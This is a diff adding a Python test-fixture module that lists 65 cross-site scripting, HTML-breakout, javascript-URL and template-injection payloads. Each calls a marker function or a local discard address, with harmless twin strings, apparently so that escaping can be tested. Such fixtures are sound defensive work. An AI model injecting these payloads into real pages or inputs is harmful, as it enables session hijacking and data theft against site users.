@@ -1,0 +1,80 @@
+"""The payloads: each calls `__pwned`, asks a foreign host, opens a dialog or goes away, if anything lets it."""
+
+from typing import Final
+
+ELSEWHERE: Final = "http://127.0.0.1:9"
+
+PAYLOADS: Final = (
+    "<script>__pwned(0)</script>",
+    "<ScRiPt>__pwned(1)</sCrIpT >",
+    "<script src=//127.0.0.1:9/2.js></script>",
+    "</script><script>__pwned(3)</script>",
+    "</title><script>__pwned(4)</script>",
+    "</textarea><script>__pwned(5)</script>",
+    "</style><script>__pwned(6)</script>",
+    "--><script>__pwned(7)</script><!--",
+    "]]><script>__pwned(8)</script><![CDATA[",
+    "<![CDATA[<script>__pwned(9)</script>]]>",
+    "<img src=x onerror=__pwned(10)>",
+    "<img src=x onerror=&#95;&#95;pwned(11)//",
+    "<svg onload=__pwned(12)>",
+    "<svg><script>__pwned(13)</script></svg>",
+    "<svg><animate onbegin=__pwned(14) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:__pwned(15)><text y=9>x</text></a></svg>",
+    "<body onload=__pwned(16)>",
+    "<details open ontoggle=__pwned(17)>",
+    "<input autofocus onfocus=__pwned(18)>",
+    "<select autofocus onfocus=__pwned(19)>",
+    "<video><source onerror=__pwned(20)></video>",
+    "<audio src=x onerror=__pwned(21)>",
+    "<marquee onstart=__pwned(22)>",
+    "<iframe src=javascript:parent.__pwned(23)></iframe>",
+    "<iframe srcdoc='<script>parent.__pwned(24)</script>'></iframe>",
+    "<object data=javascript:__pwned(25)></object>",
+    "<embed src=javascript:__pwned(26)>",
+    "<a href=javascript:__pwned(27)>x</a>",
+    "<a href='data:text/html,<script>opener.__pwned(28)</script>'>x</a>",
+    "<form action=javascript:__pwned(29)><button>x</button></form>",
+    "<button formaction=javascript:__pwned(30)>x</button>",
+    "<base href=http://127.0.0.1:9/31/>",
+    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/32'>",
+    "<link rel=stylesheet href=http://127.0.0.1:9/33.css>",
+    "<style>@import 'http://127.0.0.1:9/34.css';*{display:none}</style>",
+    "<div style='background:url(http://127.0.0.1:9/35);width:expression(__pwned(35))'>",
+    '"><script>__pwned(36)</script>',
+    "'><script>__pwned(37)</script>",
+    "`><script>__pwned(38)</script>",
+    '" autofocus onfocus=__pwned(39) x="',
+    "' autofocus onfocus=__pwned(40) x='",
+    "` onmouseover=__pwned(41) x=`",
+    "javascript:__pwned(42)",
+    "JaVaScRiPt:__pwned(43)//%0a",
+    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDQ0KTwvc2NyaXB0Pg==",
+    "{{7*7}}{{ ''.__class__.__mro__ }}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "{% print(7*7) %}{% raw %}",
+    "{# __pwned(48) #}{{ self._TemplateReference__context }}",
+    "';__pwned(49);//\\';__pwned(49);//",
+    "+ADw-script+AD4-__pwned(50)+ADw-/script+AD4-",
+    "&lt;script&gt;__pwned(51)&lt;/script&gt;",
+    "&#60;script&#62;__pwned(52)&#60;/script&#62;",
+    "%3Cscript%3E__pwned(53)%3C/script%3E",
+    "\\u003cscript\\u003e__pwned(54)\\u003c/script\\u003e",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=__pwned(55)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=__pwned(56)>'>",
+    "<template><script>__pwned(57)</script></template>",
+    "[x](javascript:__pwned(58)) ![x](http://127.0.0.1:9/58)",
+    "\u202e<script>__pwned(59)</script>\u2066",
+    "\uff1cscript\uff1e__pwned(60)\uff1c/script\uff1e\u2028\u200b\ufeff",
+    "<scr\ufffdipt>__pwned(61)</scr\ufffdipt><\x0bimg src=x onerror=__pwned(61)>",
+    "<x contenteditable onblur=__pwned(62)>\U0001f480e\u0301\u0301\u0301",
+    "<img src=`x`onerror=__pwned(63)>" + "A" * 80,
+    "alert`64`;confirm(64);prompt(64);fetch('http://127.0.0.1:9/64');location='http://127.0.0.1:9/64'",
+)
+"""At most 128 characters each, so that they fit wherever a name does. None has a NUL: no text may have one."""
+
+ALL: Final = "\n".join(PAYLOADS)
+"""All of them in one text."""
+
+HARMLESS: Final = tuple(f"harmless {number}" for number in range(len(PAYLOADS)))
+"""For a twin: as many texts that want nothing."""
